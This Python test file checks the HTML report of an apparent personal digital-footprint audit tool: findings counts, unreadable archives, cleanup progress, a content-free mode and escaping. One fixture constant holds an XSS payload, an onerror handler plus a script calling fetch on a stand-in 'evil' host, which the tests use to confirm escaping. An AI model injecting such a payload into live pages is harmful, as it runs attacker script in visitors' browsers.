"""The personal report as HTML: contents, counts, gaps, proof of cleanup, escaping, content-free mode."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from audit.checklist import Checklist
from audit.model import Kind, Target
from audit.pipeline import SourceResult
from audit.errors import InputError
from audit.report import collect, render_html
from test_store_fixtures import Src, import_run, item, new_store

EVIL = '<img src=x onerror="alert(1)"><script>fetch("http://evil")</script>'


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.tags.append(tag)

    def handle_data(self, data):  # type: ignore[no-untyped-def]
        self.text.append(data)


def _parse(html: str) -> _Text:
    p = _Text()
    p.feed(html)
    return p


def _run(tmp_path):
    st = new_store(tmp_path / "s.db")
    fb = Src("facebook", "facebook-budi.zip", owner="budi")
    for d in range(1, 6):
        fb.add(item("facebook", Kind.LIKE, d, target=Target(name="Relawan Kota X"), index=d))
    fb.add(item("facebook", Kind.POST, 9, text=EVIL + " Ayo pilih"), category="post_campaign", severity="high")
    wa = Src("whatsapp", "WhatsApp Chat with Grup Rahasia.txt")
    wa.add(item("whatsapp", Kind.GROUP_MEMBERSHIP, 0, target=Target(name="Grup Rahasia")), category="join_group")
    bad = SourceResult("rusak.zip", ["rusak.zip"], None, error=InputError("archive.bad_zip", path="rusak.zip"))
    run = import_run(st, [fb, wa], problems=[bad])
    cl = Checklist(st, run)
    likes = next(t for t in cl.tasks if t.action == "unlike")
    cl.set_state([f.id for f in likes.findings[:3]], "done")
    cl.set_state([likes.findings[3].id], "not_applicable", "official_duty")
    return st, run


def test_report_holds_runs_archives_gaps_counts_and_findings(tmp_path):
    st, run = _run(tmp_path)
    html = render_html(st, run, lang="en")
    text = " ".join(_parse(html).text)
    assert "Personal Digital Footprint Audit Report" in text
    assert "facebook-budi.zip" in text and "2024-01-01 to 2024-01-09" in text
    assert "rusak.zip could not be read" in text and "damaged" in text          # unreadable input, with why
    assert "1 files skipped" in text and "1 items without a date" in text       # coverage gaps
    assert "Findings: 7 — done 3, to do 3, not applicable 1, cannot do 0" in text
    assert "Cleanup progress: 57%" in text
    assert "By level: high 1, medium 6, low 0" in text
    row = re.search(r"Liking campaign content</td>(.*?)</tr>", html)
    assert row and re.findall(r">(\d+)<", row.group(1)) == ["1", "3", "1", "0", "5"]
    assert "Ayo pilih" in text and "Relawan Kota X" in text and "Not partisan: official duty" in text
    data = collect(st, run)
    assert data.totals["done"] == 3 and sum(data.totals.values()) == 7


def test_archive_text_is_escaped_never_markup(tmp_path):
    st, run = _run(tmp_path)
    html = render_html(st, run, lang="id")
    tags = set(_parse(html).tags)
    assert "script" not in tags and "img" not in tags
    assert "&lt;script&gt;" in html and "onerror=&quot;alert(1)&quot;" in html


def test_content_free_report_keeps_counts_and_drops_every_item_text(tmp_path):
    st, run = _run(tmp_path)
    html = render_html(st, run, lang="id", include_content=False)
    for secret in ("Ayo pilih", "Relawan Kota X", "Grup Rahasia", "facebook-budi", "rusak.zip", "script"):
        assert secret not in html, secret
    text = " ".join(_parse(html).text)
    assert "Temuan: 7 — sudah dikerjakan 3, belum 3, tidak perlu 1, tidak bisa 0" in text
    assert "Arsip 1" in text and "Arsip 2" in text and "Masukan 1 tidak bisa dibaca" in text
    assert "Laporan Pribadi Audit Jejak Digital" in text


def test_proof_of_cleanup_section(tmp_path):
    st, run = _run(tmp_path)
    fb2 = Src("facebook", "facebook-budi-baru.zip", owner="budi")
    fb2.add(item("facebook", Kind.LIKE, 1, target=Target(name="Resep Nusantara")), flagged=False)
    for d in (4, 5):
        fb2.add(item("facebook", Kind.LIKE, d, target=Target(name="Relawan Kota X"), index=d))
    run2 = import_run(st, [fb2])
    text = " ".join(_parse(render_html(st, run2, lang="en")).text)
    assert ("facebook-budi-baru.zip: 3 earlier findings are gone, 2 are still there, 0 are new. "
            "Of those marked done: 3 proven gone, 0 still there.") in text
    # The earlier report now shows which done marks are proven.
    old = " ".join(_parse(render_html(st, run, lang="en")).text)
    assert old.count("Done and proven: gone in a newer archive") == 3
